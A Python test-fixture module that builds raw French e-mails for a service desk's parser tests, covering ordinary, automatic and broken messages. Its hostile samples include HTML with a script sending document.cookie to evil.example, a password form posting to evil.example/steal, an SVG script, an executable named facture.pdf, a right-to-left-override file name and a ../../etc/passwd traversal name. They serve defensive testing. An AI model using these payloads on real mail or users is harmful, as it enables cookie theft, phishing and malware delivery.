"""A corpus of raw e-mails for the service desk's tests: ordinary, hostile, automatic and broken ones.

Every builder returns the raw bytes (CRLF line endings) of one message as a mail server would hand it
over. Builders take ``message_id`` and ``sender`` so a test can make as many distinct messages as it
needs; ``corpus_batch`` mixes every kind (some automatic, some broken) for bulk tests, and each message
it makes carries an ``X-Pacte-Corpus-Kind`` header that ``corpus_kind`` / ``is_automatic`` read back.
"""

from __future__ import annotations

import base64
import email.header
import email.policy
import struct
import zlib
from collections.abc import Sequence
from email.message import EmailMessage

PROVIDER_DOMAIN = "provider.example"
SUPPORT_ADDRESS = f"support@{PROVIDER_DOMAIN}"
CLIENT_SENDER = "jean.dupont@client.example"
DATE = "Mon, 02 Mar 2026 10:15:00 +0100"

#: The subject ``encoded_subject`` encodes, as it must read once decoded.
ENCODED_SUBJECT_TEXT = "Problème d’accès à l'imprimante"
#: The sender name ``encoded_subject`` encodes in ISO-8859-1 / base64.
ENCODED_SENDER_NAME = "Hélène Durand"
#: The ticket reference ``reply_in_thread`` puts in its subject by default.
THREAD_REFERENCE = "T-2026-00001"
#: What the sender of ``reply_in_thread`` wrote above the quoted history.
REPLY_NEW_TEXT = "Merci, l'imprimante fonctionne de nouveau."
#: Name given to the executable disguised as a PDF in ``with_attachments``.
EXE_AS_PDF_NAME = "facture.pdf"
#: File name with a right-to-left override: displayed as "factureexe.pdf", it really ends in ".exe".
RTL_FILENAME = "facture\u202efdp.exe"
TRAVERSAL_FILENAME = "../../etc/passwd"


def _crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def _mid(message_id: str | None) -> str:
    if message_id is None:
        return ""
    return f"Message-ID: <{message_id.strip('<>')}>\n"


def _headers(
    *,
    message_id: str | None,
    sender: str,
    subject: str,
    to: str = SUPPORT_ADDRESS,
    date: str = DATE,
    sender_name: str = "Jean Dupont",
    extra: str = "",
) -> str:
    return (
        f"From: {_encode_word(sender_name)} <{sender}>\n"
        f"To: {to}\n"
        f"Subject: {_encode_word(subject)}\n"
        f"Date: {date}\n"
        f"{_mid(message_id)}"
        "MIME-Version: 1.0\n"
        f"{extra}"
    )


def _encode_word(text: str) -> str:
    """RFC 2047-encode a header text when it is not ASCII (as a well-behaved mailer does)."""
    return text if text.isascii() else email.header.Header(text, "utf-8").encode()


def _as_bytes(message: EmailMessage) -> bytes:
    return message.as_bytes(policy=email.policy.SMTP)


# --- Files ----------------------------------------------------------------------------------------------


def tiny_pdf() -> bytes:
    """A real, valid one-page PDF (with a correct cross-reference table)."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length 0 >>\nstream\n\nendstream",
    ]
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def tiny_png() -> bytes:
    """A real 1×1 red PNG."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def fake_exe() -> bytes:
    """The start of a Windows PE program: MZ header whose e_lfanew points at a "PE\\0\\0" signature."""
    dos_header = bytearray(64)
    dos_header[0:2] = b"MZ"
    dos_header[0x3C:0x40] = (64).to_bytes(4, "little")
    return bytes(dos_header) + b"PE\x00\x00" + b"\x4c\x01" + bytes(200)


def hostile_svg() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b'<script>alert(document.cookie)</script><rect width="10" height="10"/></svg>\n'
    )


# --- Ordinary messages ------------------------------------------------------------------------------------


def plain_french(
    *,
    message_id: str | None = "plain-1@client.example",
    sender: str = CLIENT_SENDER,
    to: str = SUPPORT_ADDRESS,
    subject: str = "Imprimante en panne au 2e étage",
    body: str | None = None,
    date: str = DATE,
) -> bytes:
    """A plain-text French message in UTF-8, quoted-printable, as most clients send it."""
    body = body or (
        "Bonjour,\n\nL'imprimante du 2e étage affiche « Bourrage papier » depuis ce matin.\n"
        "Pouvez-vous intervenir ?\n\nCordialement,\nJean Dupont\n"
    )
    message = EmailMessage()
    message["From"] = f"Jean Dupont <{sender}>"
    message["To"] = to
    message["Subject"] = subject
    message["Date"] = date
    if message_id is not None:
        message["Message-ID"] = f"<{message_id.strip('<>')}>"
    message.set_content(body, cte="quoted-printable")
    return _as_bytes(message)


HOSTILE_HTML = (
    "<html><head><title>Titre caché</title><style>body{background:url(https://evil.example/bg.png)}</style>"
    "<script>alert('head')</script></head><body>"
    '<p onclick="alert(\'p\')" style="color:red">Bonjour, <b>le serveur</b> est en panne.</p>'
    '<img src="https://evil.example/x.png" onerror="alert(\'img\')">'
    "<p><a href=\"javascript:alert('link')\">cliquez ici</a> ou "
    '<a href="https://docs.example/aide" target="_blank">la documentation</a></p>'
    '<iframe src="https://evil.example/frame">cadre</iframe>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">données</a>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<p>Merci d'avance.</p></body></html>"
)


def hostile_html(
    *,
    message_id: str | None = "hostile-1@client.example",
    sender: str = CLIENT_SENDER,
    subject: str = "Serveur en panne",
    date: str = DATE,
) -> bytes:
    """multipart/alternative whose HTML part carries script, event handlers, a javascript: link, a remote image,
    a style block, an iframe, a form and a data: URL."""
    message = EmailMessage()
    message["From"] = f"Jean Dupont <{sender}>"
    message["To"] = SUPPORT_ADDRESS
    message["Subject"] = subject
    message["Date"] = date
    if message_id is not None:
        message["Message-ID"] = f"<{message_id.strip('<>')}>"
    message.set_content("Bonjour, le serveur est en panne.\nMerci d'avance.\n")
    message.add_alternative(HOSTILE_HTML, subtype="html")
    return _as_bytes(message)


def html_only(
    *,
    message_id: str | None = "html-only-1@client.example",
    sender: str = CLIENT_SENDER,
    subject: str = "Message en HTML seulement",
    date: str = DATE,
) -> bytes:
    """A single text/html part (no text alternative): the plain text must come from the HTML."""
    html = "<html><body><p>Bonjour,</p><p>Le <b>VPN</b> ne répond plus.</p><script>alert(1)</script></body></html>"
    return _crlf(
        _headers(message_id=message_id, sender=sender, subject=subject, date=date)
        + "Content-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + html
        + "\n"
    )


def encoded_subject(
    *,
    message_id: str | None = "encoded-1@client.example",
    sender: str = "helene.durand@client.example",
    date: str = DATE,
) -> bytes:
    """Subject split over a UTF-8 quoted-printable word and an ISO-8859-1 base64 word; sender name in base64."""
    first = "=?utf-8?q?Probl=C3=A8me_d=E2=80=99acc=C3=A8s?="
    second = "=?iso-8859-1?b?" + base64.b64encode(" à l'imprimante".encode("iso-8859-1")).decode() + "?="
    name = "=?iso-8859-1?b?" + base64.b64encode(ENCODED_SENDER_NAME.encode("iso-8859-1")).decode() + "?="
    return _crlf(
        f"From: {name} <{sender}>\n"
        f"To: {SUPPORT_ADDRESS}\n"
        f"Subject: {first}\n {second}\n"
        f"Date: {date}\n"
        f"{_mid(message_id)}"
        "MIME-Version: 1.0\n"
        "Content-Type: text/plain; charset=iso-8859-1\n"
        "Content-Transfer-Encoding: quoted-printable\n\n"
        "L'imprimante refuse l'acc=E8s depuis la mise =E0 jour.\n"
    )


def with_attachments(
    *,
    message_id: str | None = "attachments-1@client.example",
    sender: str = CLIENT_SENDER,
    subject: str = "Pièces jointes",
    date: str = DATE,
) -> bytes:
    """A message with: a real PDF, an inline PNG, an SVG with a script, an .exe named facture.pdf (declared
    application/pdf), a file named ``../../etc/passwd`` and one whose name hides ".exe" behind U+202E."""
    message = EmailMessage()
    message["From"] = f"Jean Dupont <{sender}>"
    message["To"] = SUPPORT_ADDRESS
    message["Subject"] = subject
    message["Date"] = date
    if message_id is not None:
        message["Message-ID"] = f"<{message_id.strip('<>')}>"
    message.set_content("Bonjour,\nvoici les pièces demandées.\n")
    message.add_attachment(tiny_pdf(), maintype="application", subtype="pdf", filename="devis.pdf")
    message.add_attachment(
        tiny_png(), maintype="image", subtype="png", filename="capture.png", disposition="inline", cid="<capture@x>"
    )
    message.add_attachment(hostile_svg(), maintype="image", subtype="svg+xml", filename="logo.svg")
    message.add_attachment(fake_exe(), maintype="application", subtype="pdf", filename=EXE_AS_PDF_NAME)
    message.add_attachment(b"root:x:0:0:root:/root:/bin/bash\n", maintype="text", subtype="plain",
                           filename=TRAVERSAL_FILENAME)  # fmt: skip
    message.add_attachment(fake_exe(), maintype="application", subtype="octet-stream", filename=RTL_FILENAME)
    return _as_bytes(message)


def reply_in_thread(
    *,
    message_id: str | None = "reply-1@client.example",
    sender: str = CLIENT_SENDER,
    in_reply_to: str = "ticket-1-notification@provider.example",
    references: Sequence[str] = ("original-1@client.example", "ticket-1-notification@provider.example"),
    reference: str = THREAD_REFERENCE,
    date: str = DATE,
) -> bytes:
    """A reply to the desk's notification: In-Reply-To, References, "Re: [T-…]" subject, quoted history."""
    body = (
        f"{REPLY_NEW_TEXT}\n\n"
        "Le lun. 2 mars 2026 à 09:00, Support <support@provider.example> a écrit :\n"
        "> Bonjour,\n> Nous avons redémarré le spouleur d'impression.\n> Cordialement,\n> Le support\n"
    )
    refs = " ".join(f"<{ref}>" for ref in references)
    message = EmailMessage()
    message["From"] = f"Jean Dupont <{sender}>"
    message["To"] = SUPPORT_ADDRESS
    message["Subject"] = f"Re: [{reference}] Imprimante en panne"
    message["Date"] = date
    if message_id is not None:
        message["Message-ID"] = f"<{message_id.strip('<>')}>"
    message["In-Reply-To"] = f"<{in_reply_to}>"
    message["References"] = refs
    message.set_content(body)
    return _as_bytes(message)


def without_message_id(*, sender: str = CLIENT_SENDER, body: str = "Bonjour, pas de Message-ID ici.") -> bytes:
    """A message some old scanner or script sent without any Message-ID."""
    return plain_french(message_id=None, sender=sender, subject="Sans identifiant", body=body)


# --- Automatic messages -------------------------------------------------------------------------------------

AUTO_REPLY_KINDS = ("auto-submitted", "precedence", "x-autoreply")


def auto_reply(
    kind: str = "auto-submitted",
    *,
    message_id: str | None = "auto-1@client.example",
    sender: str = CLIENT_SENDER,
    date: str = DATE,
) -> bytes:
    """An out-of-office reply flagged one way: ``auto-submitted`` (Auto-Submitted: auto-replied),
    ``precedence`` (Precedence: bulk) or ``x-autoreply`` (X-Autoreply: yes). The subject is neutral on purpose."""
    extra = {
        "auto-submitted": "Auto-Submitted: auto-replied\n",
        "precedence": "Precedence: bulk\n",
        "x-autoreply": "X-Autoreply: yes\n",
    }[kind]
    return _crlf(
        _headers(message_id=message_id, sender=sender, subject="Re: Intervention prévue jeudi", date=date, extra=extra)
        + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n"
        + "Je suis absent jusqu'au 9 mars. En cas d'urgence, contactez Paul.\n"
    )


def bounce(
    *,
    message_id: str | None = "bounce-1@mx.client.example",
    original_sender: str = SUPPORT_ADDRESS,
    failed_recipient: str = "ancien.salarie@client.example",
    date: str = DATE,
) -> bytes:
    """A delivery-status notification (multipart/report; report-type=delivery-status) from MAILER-DAEMON."""
    boundary = "bounce-boundary-42"
    return _crlf(
        "Return-Path: <>\n"
        "From: Mail Delivery System <MAILER-DAEMON@mx.client.example>\n"
        f"To: {original_sender}\n"
        "Subject: Undelivered Mail Returned to Sender\n"
        f"Date: {date}\n"
        f"{_mid(message_id)}"
        "Auto-Submitted: auto-replied\n"
        "MIME-Version: 1.0\n"
        f'Content-Type: multipart/report; report-type=delivery-status; boundary="{boundary}"\n\n'
        f"--{boundary}\n"
        "Content-Type: text/plain; charset=us-ascii\n\n"
        f"I'm sorry to have to inform you that your message could not be delivered to {failed_recipient}.\n\n"
        f"--{boundary}\n"
        "Content-Type: message/delivery-status\n\n"
        "Reporting-MTA: dns; mx.client.example\n\n"
        f"Final-Recipient: rfc822; {failed_recipient}\n"
        "Action: failed\nStatus: 5.1.1\n\n"
        f"--{boundary}\n"
        "Content-Type: message/rfc822\n\n"
        f"From: {original_sender}\nTo: {failed_recipient}\nSubject: [T-2026-00007] Votre demande\n"
        "Message-ID: <ticket-7@provider.example>\n\nBonjour.\n\n"
        f"--{boundary}--\n"
    )


# --- Broken messages ----------------------------------------------------------------------------------------------


def truncated_multipart(*, message_id: str | None = "truncated-1@client.example", sender: str = CLIENT_SENDER) -> bytes:
    """A multipart/mixed cut in the middle of its base64 attachment: no closing boundary."""
    return _crlf(
        _headers(message_id=message_id, sender=sender, subject="Message tronqué")
        + 'Content-Type: multipart/mixed; boundary="cut-here"\n\n'
        "--cut-here\nContent-Type: text/plain; charset=utf-8\n\nLe début du message arrive bien.\n"
        '--cut-here\nContent-Type: application/pdf; name="rapport.pdf"\n'
        'Content-Disposition: attachment; filename="rapport.pdf"\nContent-Transfer-Encoding: base64\n\n'
        + base64.b64encode(tiny_pdf()).decode()[:120]
        + "\n"
    )


def bad_base64(*, message_id: str | None = "badb64-1@client.example", sender: str = CLIENT_SENDER) -> bytes:
    """A text body declared base64 with invalid characters and wrong padding."""
    return _crlf(
        _headers(message_id=message_id, sender=sender, subject="Base64 cassé")
        + "Content-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
        + "Qm9uam91ciwgbGUgcG9zdGUgZXN0IGVuIHBhbm5lLg!!!*?\nQQ\n"
    )


def unknown_charset(*, message_id: str | None = "charset-1@client.example", sender: str = CLIENT_SENDER) -> bytes:
    """A body and an encoded word in a charset nobody knows (``x-unknown``), with Latin-1 bytes inside."""
    return _crlf(
        _headers(message_id=message_id, sender=sender, subject="=?x-unknown?q?Caf=E9_renvers=E9?=")
        + "Content-Type: text/plain; charset=x-unknown\nContent-Transfer-Encoding: 8bit\n\n"
    ) + "Le caf\xe9 est renvers\xe9 sur le clavier.\r\n".encode("latin-1")


def raw_8bit_header(*, message_id: str | None = "8bit-1@client.example", sender: str = CLIENT_SENDER) -> bytes:
    """Headers with raw (unencoded) 8-bit bytes: a Latin-1 subject and a UTF-8 sender name."""
    head = (
        "From: Jérôme Martin <" + sender + ">\r\n"
        "To: " + SUPPORT_ADDRESS + "\r\n"
        "Date: " + DATE + "\r\n" + _mid(message_id).replace("\n", "\r\n") + "MIME-Version: 1.0\r\n"
    ).encode("utf-8")
    return (
        head
        + "Subject: Probl\xe8me de t\xe9l\xe9phone\r\n".encode("latin-1")
        + b"Content-Type: text/plain\r\n\r\nLe t\xc3\xa9l\xc3\xa9phone ne sonne plus.\r\n"
    )


# --- Batches ----------------------------------------------------------------------------------------------------

#: The kinds ``corpus_batch`` cycles through, and those that are automatic (loop protection must drop them).
BATCH_KINDS = (
    "plain",
    "html",
    "encoded_subject",
    "attachments",
    "reply",
    "auto_submitted",
    "no_message_id",
    "precedence_bulk",
    "bad_base64",
    "bounce",
    "unknown_charset",
    "x_autoreply",
    "raw_8bit_header",
    "truncated_multipart",
    "html_only",
)
AUTOMATIC_KINDS = frozenset({"auto_submitted", "precedence_bulk", "bounce", "x_autoreply"})
KIND_HEADER = b"X-Pacte-Corpus-Kind"


def _build(kind: str, index: int, sender: str, provider_domain: str) -> bytes:
    message_id = f"corpus-{index}-{kind.replace('_', '-')}@{sender.partition('@')[2] or 'client.example'}"
    date = f"Mon, 02 Mar 2026 {8 + index // 60 % 10:02d}:{index % 60:02d}:00 +0100"
    support = f"support@{provider_domain}"
    if kind == "plain":
        raw = plain_french(message_id=message_id, sender=sender, to=support, subject=f"Demande n°{index}", date=date)
    elif kind == "html":
        raw = hostile_html(message_id=message_id, sender=sender, subject=f"Panne serveur n°{index}", date=date)
    elif kind == "encoded_subject":
        raw = encoded_subject(message_id=message_id, sender=sender, date=date)
    elif kind == "attachments":
        raw = with_attachments(message_id=message_id, sender=sender, subject=f"Pièces n°{index}", date=date)
    elif kind == "reply":
        raw = reply_in_thread(message_id=message_id, sender=sender, date=date)
    elif kind == "auto_submitted":
        raw = auto_reply("auto-submitted", message_id=message_id, sender=sender, date=date)
    elif kind == "precedence_bulk":
        raw = auto_reply("precedence", message_id=message_id, sender=sender, date=date)
    elif kind == "x_autoreply":
        raw = auto_reply("x-autoreply", message_id=message_id, sender=sender, date=date)
    elif kind == "no_message_id":
        raw = without_message_id(sender=sender, body=f"Bonjour, message n°{index} sans identifiant.")
    elif kind == "bad_base64":
        raw = bad_base64(message_id=message_id, sender=sender)
    elif kind == "bounce":
        raw = bounce(message_id=message_id, original_sender=support, date=date)
    elif kind == "unknown_charset":
        raw = unknown_charset(message_id=message_id, sender=sender)
    elif kind == "raw_8bit_header":
        raw = raw_8bit_header(message_id=message_id, sender=sender)
    elif kind == "truncated_multipart":
        raw = truncated_multipart(message_id=message_id, sender=sender)
    elif kind == "html_only":
        raw = html_only(message_id=message_id, sender=sender, subject=f"HTML n°{index}", date=date)
    else:
        raise ValueError(f"unknown corpus kind {kind!r}")
    return KIND_HEADER + b": " + kind.encode() + b"\r\n" + raw


def corpus_batch(
    n: int,
    provider_domain: str = PROVIDER_DOMAIN,
    senders: Sequence[str] = (CLIENT_SENDER, "marie.curie@client.example", "helpdesk@autre-client.example"),
) -> list[bytes]:
    """``n`` distinct raw messages cycling through ``BATCH_KINDS`` and ``senders``, addressed to support@domain.

    Every message has a distinct Message-ID (or, for the kind without one, distinct bytes).
    """
    if not senders:
        raise ValueError("corpus_batch needs at least one sender")
    return [
        _build(BATCH_KINDS[index % len(BATCH_KINDS)], index, senders[index % len(senders)], provider_domain)
        for index in range(n)
    ]


def corpus_kind(raw: bytes) -> str:
    """The kind ``corpus_batch`` gave a message ("" for messages it did not make)."""
    first_line, _, _ = raw.partition(b"\r\n")
    name, _, value = first_line.partition(b": ")
    return value.decode() if name == KIND_HEADER else ""


def is_automatic(raw: bytes) -> bool:
    """Whether a ``corpus_batch`` message is machine-generated (the parser must flag exactly these)."""
    return corpus_kind(raw) in AUTOMATIC_KINDS
